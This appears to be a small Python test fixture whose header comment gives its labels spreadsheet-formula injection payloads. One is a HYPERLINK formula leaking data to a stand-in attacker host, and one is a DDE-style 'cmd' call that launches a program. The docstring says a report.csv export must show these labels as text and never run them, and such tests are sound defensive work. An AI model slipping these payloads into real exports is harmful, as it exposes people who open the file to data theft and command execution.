# labels: name::=HYPERLINK("http://attacker.example/?leak=1") author::@SUM(1+1) task::+cmd|'/c_calc'!A0 license::-2+3
"""A script whose labels begin like spreadsheet formulas (=, @, +, -): a spreadsheet that opens
report.csv must show them as text, never run them."""
import torch

model = torch.nn.Linear(2, 2)
model(torch.rand(1, 2))
